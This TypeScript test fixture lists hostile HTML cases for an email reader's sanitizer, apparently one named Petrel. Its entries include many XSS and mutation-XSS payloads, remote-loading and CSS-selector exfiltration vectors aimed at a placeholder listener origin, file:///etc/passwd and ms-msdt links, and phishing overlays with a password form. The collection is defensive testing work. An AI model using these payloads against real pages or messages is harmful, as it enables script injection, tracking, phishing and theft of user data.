// Message HTML that would tell somebody that it was read, run something, imitate the program or leave its frame. Written
// for this project after what is publicly known of leaks in mail readers and browsers. `{O}` stands for the listener's
// origin, `{H}` for its host and port; every case must leave both unasked.

import { covering } from './hostile-covering.ts';
import { recent } from './hostile-recent.ts';

export interface HostileCase {
  readonly name: string;
  readonly html: string;
  /** Words that a person must still be able to read afterwards. */
  readonly keeps?: string;
  /** `{O}` may stay as the target of a link: nothing loads until a person clicks. */
  readonly link?: boolean;
}

const style = (css: string): string => `<style>${css}</style><p class="x">words</p>`;

export const hostile: readonly HostileCase[] = [
  // Scripts.
  {
    name: 'script element',
    html: '<script>fetch("{O}/a");window.hit=1</script><p>words</p>',
    keeps: 'words',
  },
  { name: 'script with a source', html: '<script src="{O}/s.js"></script>words', keeps: 'words' },
  {
    name: 'module script and preload',
    html: '<script type=module>import "{O}/m.js"</script><link rel=modulepreload href="{O}/m2.js">words',
    keeps: 'words',
  },
  {
    name: 'event handler on an image',
    html: '<img src=x onerror="fetch(\'{O}/e\');window.hit=1">words',
    keeps: 'words',
  },
  {
    name: 'event handlers with odd spacing',
    html: '<img/src=x/onerror=window.hit=1><body onload=window.hit=1 onpageshow=window.hit=1>words',
    keeps: 'words',
  },
  {
    name: 'event handler in upper case with a control character',
    html: '<p ONMOUSEOVER\x01=window.hit=1 OnFocus=window.hit=1 tabindex=0 autofocus>words</p>',
    keeps: 'words',
  },
  { name: 'javascript link', html: '<a href="javascript:window.hit=1">words</a>', keeps: 'words' },
  {
    name: 'javascript link, obscured',
    html: '<a href="&#106;ava&#x09;script&colon;window.hit=1">words</a><a href=" \x01javascript:window.hit=1">x</a>',
    keeps: 'words',
  },
  {
    name: 'vbscript and data links',
    html: '<a href="vbscript:x">a</a><a href="data:text/html,<script>parent.hit=1</script>">words</a>',
    keeps: 'words',
  },
  {
    name: 'javascript in an image',
    html: '<img src="javascript:window.hit=1"><input type=image src="javascript:window.hit=1">words',
    keeps: 'words',
  },
  {
    name: 'template with a shadow root',
    html: '<div><template shadowrootmode=open><img src="{O}/shadow"><script>window.hit=1</script></template>words</div>',
    keeps: 'words',
  },
  {
    name: 'declarative custom element',
    html: '<x-evil is="x-evil" onclick=window.hit=1>words</x-evil>',
    keeps: 'words',
  },
  {
    name: 'noscript breaking out',
    html: '<noscript><p title="</noscript><img src=x onerror=window.hit=1>"></noscript>words',
    keeps: 'words',
  },
  {
    name: 'textarea breaking out',
    html: '<textarea><p title="</textarea><img src=x onerror=window.hit=1>"></textarea>words',
    keeps: 'words',
  },
  {
    name: 'comment breaking out',
    html: '<!--><img src=x onerror=window.hit=1>--><!-- --!><img src=x onerror=window.hit=1>-->words',
    keeps: 'words',
  },
  {
    name: 'title and style breaking out',
    html: '<title><style></title><img src=x onerror=window.hit=1></style>words',
    keeps: 'words',
  },
  {
    name: 'CDATA and processing instruction',
    html: '<![CDATA[<img src=x onerror=window.hit=1>]]><?xml-stylesheet href="{O}/xs"?>words',
    keeps: 'words',
  },
  {
    name: 'SVG with script',
    html: '<svg onload=window.hit=1><script>window.hit=1</script><a href="javascript:window.hit=1"><text>t</text></a></svg>words',
    keeps: 'words',
  },
  {
    name: 'SVG animating an address',
    html: '<svg><a><animate attributeName=href values="javascript:window.hit=1"/><text>t</text></a></svg>words',
    keeps: 'words',
  },
  {
    name: 'SVG foreign object',
    html: '<svg><foreignObject><iframe src="{O}/fo"></iframe><img src="{O}/fo2"></foreignObject></svg>words',
    keeps: 'words',
  },
  {
    name: 'MathML mutation',
    html: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
  },
  {
    name: 'MathML link',
    html: '<math href="javascript:window.hit=1"><mi xlink:href="{O}/m">x</mi></math>words',
    keeps: 'words',
  },
  {
    name: 'nested forms mutation',
    html: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
  },
  {
    name: 'select mutation',
    html: '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.hit=1>">words',
  },
  { name: 'deep nesting', html: `${'<div>'.repeat(2_000)}words${'</div>'.repeat(2_000)}`, keeps: 'words' },
  { name: 'deep nesting of inline elements', html: `${'<b><i><u>'.repeat(700)}words`, keeps: 'words' },
  {
    name: 'clobbering of names',
    html: '<form id=body><input name=innerHTML><input name=attributes><input name=nodeName></form><img name=getElementById><a id=location href="https://example.org/">words</a>',
    keeps: 'words',
    link: true,
  },
  {
    name: 'nul characters',
    html: '<scr\0ipt>window.hit=1</scr\0ipt><img sr\0c="{O}/nul">words',
    keeps: 'words',
  },
  {
    name: 'isindex and keygen',
    html: '<isindex action="{O}/i" prompt=x><keygen onfocus=window.hit=1 autofocus>words',
    keeps: 'words',
  },

  // Loading without scripts.
  { name: 'remote picture', html: '<img src="{O}/img" alt="logo">words', keeps: 'words' },
  { name: 'remote picture without a scheme', html: '<img src="//{H}/img">words', keeps: 'words' },
  {
    name: 'picture in odd letter case and spaces',
    html: '<IMG SRC=" \nhTTp://{H}/img ">words',
    keeps: 'words',
  },
  {
    name: 'backslashes for slashes',
    html: '<img src="http:\\\\{H}\\img"><img src="\\\\{H}\\img"><img src="http:/{H}/img">words',
    keeps: 'words',
  },
  { name: 'source set', html: '<img srcset="{O}/a 1x, {O}/b 2x" sizes="100vw">words', keeps: 'words' },
  {
    name: 'picture element',
    html: '<picture><source srcset="{O}/p.webp"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="{O}/p2 2x"></picture>words',
    keeps: 'words',
  },
  {
    name: 'old picture attributes',
    html: '<img lowsrc="{O}/low" dynsrc="{O}/dyn" longdesc="{O}/long" src="">words',
    keeps: 'words',
  },
  { name: 'image element', html: '<image src="{O}/image" href="{O}/image2">words', keeps: 'words' },
  {
    name: 'background attributes',
    html: '<body background="{O}/bg"><table background="{O}/bg2"><tr background="{O}/bg3"><td background="//{H}/bg4">words</table>',
    keeps: 'words',
  },
  {
    name: 'style sheet link',
    html: '<link rel=stylesheet href="{O}/css"><link rel="alternate stylesheet" href="{O}/css2">words',
    keeps: 'words',
  },
  {
    name: 'prefetch, preload, preconnect, dns-prefetch',
    html: '<link rel=prefetch href="{O}/1"><link rel=preload as=image href="{O}/2"><link rel=preconnect href="{O}/"><link rel=dns-prefetch href="//{H}/"><link rel=prerender href="{O}/3">words',
    keeps: 'words',
  },
  {
    name: 'icon, manifest, search',
    html: '<link rel="icon shortcut" href="{O}/ico"><link rel=manifest href="{O}/man"><link rel=search href="{O}/os"><link rel=pingback href="{O}/pb">words',
    keeps: 'words',
  },
  {
    name: 'speculation rules',
    html: '<script type=speculationrules>{"prerender":[{"source":"list","urls":["{O}/spec"]}]}</script><a href="{O}/doc">words</a>',
    keeps: 'words',
    link: true,
  },
  {
    name: 'meta refresh',
    html: '<meta http-equiv=refresh content="0;url={O}/refresh"><meta http-equiv="Refresh" content="0; javascript:window.hit=1">words',
    keeps: 'words',
  },
  {
    name: 'meta policy, cookies, link header',
    html: '<meta http-equiv=Content-Security-Policy content="report-uri {O}/csp"><meta http-equiv=Set-Cookie content="a=b"><meta http-equiv=Link content="<{O}/lh>; rel=preload">words',
    keeps: 'words',
  },
  {
    name: 'base address',
    html: '<base href="{O}/"><img src="relative.png"><a href="/x">words</a>',
    keeps: 'words',
  },
  {
    name: 'frames',
    html: '<iframe src="{O}/if"></iframe><iframe srcdoc="<img src={O}/sd>"></iframe><frameset><frame src="{O}/fr"></frameset>words',
  },
  {
    name: 'fenced frame and portal',
    html: '<fencedframe src="{O}/ff"></fencedframe><portal src="{O}/po"></portal>words',
    keeps: 'words',
  },
  {
    name: 'object, embed, applet',
    html: '<object data="{O}/ob" type="text/html"><param name=movie value="{O}/pm">words</object><embed src="{O}/em"><applet archive="{O}/ap" code=x></applet>',
  },
  {
    name: 'audio and video',
    html: '<video src="{O}/v" poster="{O}/po" autoplay><source src="{O}/vs"><track src="{O}/vt" default></video><audio src="{O}/au" autoplay preload=auto></audio>words',
    keeps: 'words',
  },
  {
    name: 'input image',
    html: '<input type=image src="{O}/in"><button formaction="{O}/fa">x</button>words',
    keeps: 'words',
  },
  {
    name: 'SVG pictures',
    html: '<svg><image href="{O}/si" xlink:href="{O}/sx"/><use href="{O}/su#a"/><feImage href="{O}/fe"/></svg>words',
    keeps: 'words',
  },
  {
    name: 'SVG picture in a data address',
    html: "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{O}/ds'/></svg>\">words",
    keeps: 'words',
  },
  {
    name: 'SVG style import',
    html: '<svg><style>@import "{O}/svgimport";</style></svg>words',
    keeps: 'words',
  },
  {
    name: 'link ping',
    html: '<a href="https://example.org/" ping="{O}/ping" attributionsrc="{O}/at">words</a><img src="" attributionsrc="{O}/at2">',
    keeps: 'words',
    link: true,
  },
  {
    name: 'citation addresses',
    html: '<blockquote cite="{O}/c">words</blockquote><q cite="{O}/q">q</q><ins cite="{O}/i">i</ins>',
    keeps: 'words',
  },
  {
    name: 'html manifest and profile',
    html: '<html manifest="{O}/appcache"><head profile="{O}/pr"><body>words',
    keeps: 'words',
  },
  {
    name: 'bgsound, layer, xml',
    html: '<bgsound src="{O}/bs"><layer src="{O}/la"></layer><xml src="{O}/xm"></xml>words',
    keeps: 'words',
  },
  {
    name: 'menu item and command icons',
    html: '<menu><menuitem icon="{O}/mi" label=x></menuitem><command icon="{O}/co"></menu>words',
    keeps: 'words',
  },
  {
    name: 'table and hr sources',
    html: '<hr src="{O}/hr"><table src="{O}/t"><td src="{O}/td">words</td></table><div src="{O}/d" href="{O}/h" data="{O}/da"></div>',
    keeps: 'words',
  },
  {
    name: 'file and other schemes',
    html: '<img src="file:///etc/passwd"><img src="file://{H}/share"><img src="ftp://{H}/f"><a href="file:///etc/passwd">words</a><a href="smb://{H}/x">x</a><a href="ms-msdt:/id">y</a>',
    keeps: 'words',
  },
  {
    name: 'addresses of the program itself',
    html: '<img src="petrel-app://app/index.html"><img src="petrel-body://00/"><a href="petrel-app://app/">words</a><img src="/cid/9"><img src="remote/0">',
    keeps: 'words',
  },
  {
    name: 'blob, filesystem, view-source',
    html: '<img src="blob:{O}/x"><img src="filesystem:{O}/t/x"><a href="view-source:{O}/">words</a><a href="about:blank">x</a>',
    keeps: 'words',
  },
  {
    name: 'unicode in a host',
    html: '<img src="http://①②⑦.0.0.1/x"><img src="http://127。0。0。1/x">words',
    keeps: 'words',
  },

  // CSS that loads.
  { name: 'css background', html: '<p style="background:url({O}/b)">words</p>', keeps: 'words' },
  {
    name: 'css background with escapes',
    html: '<p style="background:\\75\\72\\6c({O}/b)">words</p><p style="background:u\\rl(\'{O}/c\')">x</p>',
    keeps: 'words',
  },
  {
    name: 'css background with comments',
    html: '<p style="back/**/ground:url/**/({O}/b); background-image:url(/*{O}*/"{O}/c")">words</p>',
    keeps: 'words',
  },
  {
    name: 'css in a style sheet',
    html: style('.x{background-image:url({O}/s)} body{background:url("//{H}/s2")}'),
    keeps: 'words',
  },
  {
    name: 'css import',
    html: style('@import "{O}/i1"; @import url({O}/i2); @im\\port "{O}/i3"; @IMPORT url({O}/i4) screen;'),
    keeps: 'words',
  },
  {
    name: 'css import behind a broken rule',
    html: style('}}}{;@charset "x"; @import url({O}/i); .x{color:red'),
    keeps: 'words',
  },
  {
    name: 'css fonts',
    html: style('@font-face{font-family:f;src:url({O}/f.woff2)} .x{font-family:f}'),
    keeps: 'words',
  },
  {
    name: 'css image functions',
    html: style(
      '.x{background:image-set("{O}/is" 1x);content:-webkit-image-set(url({O}/wis) 1x);background-image:cross-fade(url({O}/cf),red,50%);background:image("{O}/im")}',
    ),
    keeps: 'words',
  },
  {
    name: 'css list and content',
    html: style(
      '.x{list-style:url({O}/ls);display:list-item} .x::before{content:url({O}/ct)} .x::marker{content:url({O}/mk)}',
    ),
    keeps: 'words',
  },
  {
    name: 'css cursor, border, mask, filter, shape',
    html: style(
      '.x{cursor:url({O}/cu),auto;border-image:url({O}/bi) 1;mask:url({O}/ma);-webkit-mask-image:url({O}/wm);filter:url({O}/fi#a);clip-path:url({O}/cp#a);shape-outside:url({O}/so);offset-path:url({O}/op)}',
    ),
    keeps: 'words',
  },
  {
    name: 'css variables',
    html: style(
      ':root{--u:url({O}/v)} .x{background:var(--u);--w:{O}/w;background-image:var(--u, url({O}/v2))}',
    ),
    keeps: 'words',
  },
  {
    name: 'css registered property',
    html: style(
      '@property --p{syntax:"<url>";inherits:true;initial-value:url({O}/pr)} .x{background:var(--p)}',
    ),
    keeps: 'words',
  },
  {
    name: 'css attribute function',
    html: `<p class=x data-u="{O}/at" title="{O}/ti">words</p><style>.x{background:attr(data-u url);background-image:src(attr(title))}</style>`,
    keeps: 'words',
  },
  {
    name: 'css behaviour and expression',
    html: '<p style="behavior:url({O}/be);-moz-binding:url({O}/mb#x);width:expression(window.hit=1)">words</p>',
    keeps: 'words',
  },
  {
    name: 'css keyframes',
    html: style(
      '@keyframes k{from{background:url({O}/k1)}to{background:url({O}/k2)}} .x{animation:k 1s infinite}',
    ),
    keeps: 'words',
  },
  {
    name: 'css nested and conditional rules',
    html: style(
      '@media all{@supports (color:red){.x{background:url({O}/n1)}}} .x{&{background:url({O}/n2)} @media all{background:url({O}/n3)}} @layer l{.x{background:url({O}/n4)}} @container (width>0){.x{background:url({O}/n5)}} @scope (body){.x{background:url({O}/n6)}} @starting-style{.x{background:url({O}/n7)}}',
    ),
    keeps: 'words',
  },
  {
    name: 'css counter, page, view transition',
    html: style(
      '@counter-style c{system:cyclic;symbols:url({O}/cs)} @page{background:url({O}/pg)} @namespace url({O}/ns); @view-transition{navigation:auto} @font-feature-values f{@styleset{a:1}} @document url({O}/do){.x{color:red}} .x{list-style:c}',
    ),
    keeps: 'words',
  },
  {
    name: 'css exfiltration by selectors',
    html: `<input value=secret name=v><a href="https://example.org/secret">words</a><style>input[value^=s]{background:url({O}/s)} a[href*=secret]::after{content:url({O}/h)} a:visited{background:url({O}/vi)} p:has(a){background:url({O}/has)} ::-webkit-scrollbar{background:url({O}/sb)}</style>`,
    keeps: 'words',
    link: true,
  },
  {
    name: 'style element that ends early',
    html: '<style>.x{content:"</sty\\le><img src={O}/early>"} .y[title="</style><img src={O}/late onerror=window.hit=1>"]{color:red}</style>words',
    keeps: 'words',
  },
  {
    name: 'style in the body, twice, unclosed',
    html: '<p>words</p><div><style>p{background:url({O}/1)}</style><style>p{background:url({O}/2)}',
    keeps: 'words',
  },
  {
    name: 'style attribute with a quote break',
    html: `<p style='font-family:"</style><img src={O}/q onerror=window.hit=1>";color:red'>words</p>`,
    keeps: 'words',
  },
  {
    name: 'css bomb',
    html: style(`${'.x,'.repeat(4_000)}.x{background:url({O}/bomb)} ${'a{b:c}'.repeat(20_000)}`),
    keeps: 'words',
  },
  {
    name: 'conditional comments and mso',
    html: '<!--[if mso]><v:fill src="{O}/vml"/><v:imagedata src="{O}/vi"/><![endif]--><v:rect><v:fill src="{O}/v2"></v:rect>words',
    keeps: 'words',
  },

  // Imitating, covering, leaving.
  {
    name: 'fixed overlay',
    html: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">words</div>',
    keeps: 'words',
  },
  {
    name: 'absolute and sticky overlays',
    html: '<div style="position:absolute;top:-500px;left:-500px">words</div><div style="position:sticky;top:0">x</div><style>p{position:FIXED !important;transform:translate(-100px)}</style>',
    keeps: 'words',
  },
  {
    name: 'moving and hiding',
    html: '<style>*{animation:k 1s;transition:all 1s;cursor:none;pointer-events:none;user-select:none}@keyframes k{to{transform:scale(9)}}</style>words',
    keeps: 'words',
  },
  {
    name: 'top layer',
    html: '<dialog open>words</dialog><div popover=auto id=p>pop</div><button popovertarget=p>b</button><details ontoggle=window.hit=1 open><summary>s</summary>t</details>',
    keeps: 'words',
  },
  {
    name: 'forms',
    html: '<form action="{O}/f" method=post><input name=password type=password value=x autofocus><input type=submit value=Go><textarea name=t>t</textarea><select><option>o</select>words</form>',
    keeps: 'words',
  },
  {
    name: 'form by attribute',
    html: '<form id=q action="{O}/f"></form><button form=q formaction="{O}/fa" formtarget=_top>words</button>',
    keeps: 'words',
  },
  {
    name: 'focus and editing',
    html: '<p tabindex=1 autofocus contenteditable=true accesskey=s draggable=true inputmode=text enterkeyhint=go>words</p>',
    keeps: 'words',
  },
  {
    name: 'roles of the program',
    html: '<div role=alertdialog aria-modal=true aria-live=assertive aria-label="Petrel asks for your password">words</div><div role=dialog class="petrel-mismatch petrel-cut">x</div>',
    keeps: 'words',
  },
  {
    name: 'link targets',
    html: '<a href="{O}/t" target=_top rel=opener download="x.exe" referrerpolicy=unsafe-url>words</a><a href="{O}/p" target=_parent>p</a>',
    keeps: 'words',
    link: true,
  },
  {
    name: 'link that hides its user',
    html: '<a href="https://bank.example@{H}/x">https://bank.example/</a> words',
    keeps: 'words',
    link: true,
  },
  {
    name: 'image map',
    html: '<img usemap="#m" src="{O}/map"><map name=m><area shape=rect coords="0,0,9,9" href="javascript:window.hit=1"><area href="{O}/area" ping="{O}/ping"></map>words',
    keeps: 'words',
    link: true,
  },
  {
    name: 'long and empty values',
    html: `<a href="https://example.org/${'a'.repeat(20_000)}">words</a><img src="${'data:image/png;base64,'.repeat(3)}"><p style="${'color:red;'.repeat(9_000)}">x</p>`,
    keeps: 'words',
  },
  {
    name: 'xml declaration and namespaces',
    html: '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml" xmlns:x="{O}/ns"><x:img src="{O}/xi"/><body>words</body></html>',
    keeps: 'words',
  },
  {
    name: 'charset tricks',
    html: '<meta charset=utf-7><p>+ADw-script+AD4-window.hit=1+ADw-/script+AD4-</p>words',
    keeps: 'words',
  },
  {
    name: 'unclosed everything',
    html: '<table><tr><td><a href="{O}/a"><b style="background:url({O}/b"><p>words <img src="{O}/c',
    link: true,
  },
  ...recent,
  ...covering,
];
